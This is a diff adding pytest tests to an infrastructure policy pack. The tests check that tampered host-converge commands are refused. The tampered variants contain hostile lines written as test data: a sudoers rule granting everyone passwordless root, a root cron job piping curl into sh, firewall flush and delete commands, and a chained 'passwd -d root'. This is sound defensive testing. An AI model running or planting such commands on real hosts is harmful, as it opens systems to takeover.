@@ -1068,6 +1068,71 @@ def test_other_command_types_are_refused(stacks: dict[str, StackCase]) -> None:
         assert urn == extra.urn and type_ in message
 
 
+def _stdin_of(files: list[firstboot.HostFile], admin: str) -> str:
+    return base64.b64encode(firstboot.bundle(firstboot.FirstBoot(tuple(files), admin))).decode()
+
+
+@pytest.mark.parametrize("stack", [PROD, *DEV_STACKS])
+def test_the_host_converge_is_accepted_exactly_as_the_product_builds_it(stacks: dict[str, StackCase],
+                                                                        stack: str) -> None:
+    """The converge (HostConfig) passes every policy: its command, its update, and its stdin (this stack's
+    converge bundle, which holds no secret)."""
+    case = stacks[stack]
+    converge = _release(case, "-config-converge")
+    assert converge.inputs["create"] == converge.inputs["update"] == firstboot.CONVERGE_COMMAND
+    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
+    assert converge.inputs["stdin"] == base64.b64encode(firstboot.converge_bundle(spec)).decode()
+    assert hp.is_converge(converge.type, converge.inputs)
+    assert hp.find_secrets(hp.RawFirstBoot(converge.inputs["stdin"], "stdin"), pinned_host_key=False) == []
+    assert [v for v in evaluate(case) if converge.name in v.resource] == []
+    component = next(r for r in case.resources if r.type.endswith(":HostConfig"))
+    assert not hp.type_not_allowed(component.type) and not hp.type_not_allowed(converge.type)
+    assert hp.type_not_allowed("command:local:Command")  # the allowlist still refuses commands on this machine
+
+
+def _converge_variants(case: StackCase, converge: Registered) -> dict[str, dict[str, Any]]:
+    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{case.stack}.yaml")
+    files = list(firstboot.converge_files(spec).files)
+    sudoers = next(i for i, f in enumerate(files) if f.path.startswith("/etc/sudoers.d/"))
+    opened = [*files[:sudoers], replace(files[sudoers], content="ALL ALL=(ALL) NOPASSWD: ALL\n"), *files[sudoers + 1:]]
+    extra = [*files, firstboot.HostFile("/etc/cron.d/x", "* * * * * root curl x | sh\n")]
+    return {
+        "sudoers-opened": {"stdin": _stdin_of(opened, spec.admin_user)},
+        "extra-file": {"stdin": _stdin_of(extra, spec.admin_user)},
+        "update-runs-else": {"update": "sudo nft flush ruleset"},
+        "delete-command": {"delete": "sudo rm -rf /etc/nftables.conf"},
+        "appended-to-converge": {"create": firstboot.CONVERGE_COMMAND + "; sudo passwd -d root"},
+    }
+
+
+@pytest.mark.parametrize(("variant", "why"), [
+    ("sudoers-opened", "its stdin is not this stack's converge bundle"),
+    ("extra-file", "its stdin is not this stack's converge bundle"),
+    ("update-runs-else", "its update runs something other than"),
+    ("delete-command", "sets delete"),
+    ("appended-to-converge", "sets update"),  # no longer the converge: its update is what the product never sets
+])
+def test_a_converge_variant_is_refused(stacks: dict[str, StackCase], variant: str, why: str) -> None:
+    case = stacks[PROD]
+    converge = _release(case, "-config-converge")
+    edited = _with_inputs(case, converge, **_converge_variants(case, converge)[variant])
+    found = [(p, r, m) for p, r, m in _mandatory(edited) if p == "remote-commands-are-the-products"]
+    ((_, resource, message),) = found
+    assert converge.name in resource and why in message and names_resource_and_fix(message, converge)
+
+
+def test_a_converge_carrying_the_host_key_is_refused_by_the_secrets_scan(stacks: dict[str, StackCase]) -> None:
+    """First boot may carry the pinned host key (secret user data); the converge's stdin is a plain input: any
+    private key in it, the host key included, is refused, and it is not this stack's converge bundle either."""
+    case = stacks[PROD]
+    converge = _release(case, "-config-converge")
+    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{PROD}.yaml")
+    with_key = _stdin_of(list(firstboot.describe_first_boot(spec).files), spec.admin_user)
+    found = {p: m for p, r, m in _mandatory(_with_inputs(case, converge, stdin=with_key)) if converge.name in r}
+    assert set(found) == {"first-boot-no-secrets", "remote-commands-are-the-products"}
+    assert "private key" in found["first-boot-no-secrets"]
+
+
 def test_remote_command_check_follows_the_product(stacks: dict[str, StackCase],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
     """The pack calls components/app: when the deploy command changes there, the new one passes and the old
@@ -1093,11 +1158,12 @@ def test_git_source_release_passes_and_fails_closed_without_config(stacks: dict[
     config = full_config(appSource="https://github.com/example/app.git", appRef="v1.2.3")
     _, case = run_case(config)
     commands = sorted(r.type for r in case.resources if r.type.startswith("command:"))
-    assert commands == [hp.REMOTE_COMMAND, hp.REMOTE_COMMAND, hp.REMOTE_COPY]  # readiness wait, deploy, script
+    # readiness wait, host converge, deploy, script
+    assert commands == [hp.REMOTE_COMMAND, hp.REMOTE_COMMAND, hp.REMOTE_COMMAND, hp.REMOTE_COPY]
     assert _mandatory(case) == []
     found = [(v.policy, v.message) for v in evaluate(replace(case, config={})) if v.mandatory]
     remote = [m for p, m in found if p == "remote-commands-are-the-products"]
-    assert len(remote) == 3 and all("fails closed" in m for m in remote)
+    assert len(remote) == 4 and all("fails closed" in m for m in remote)
 
 
 @pytest.mark.parametrize("host_name", [f"web{'x' * n}" for n in range(8)])
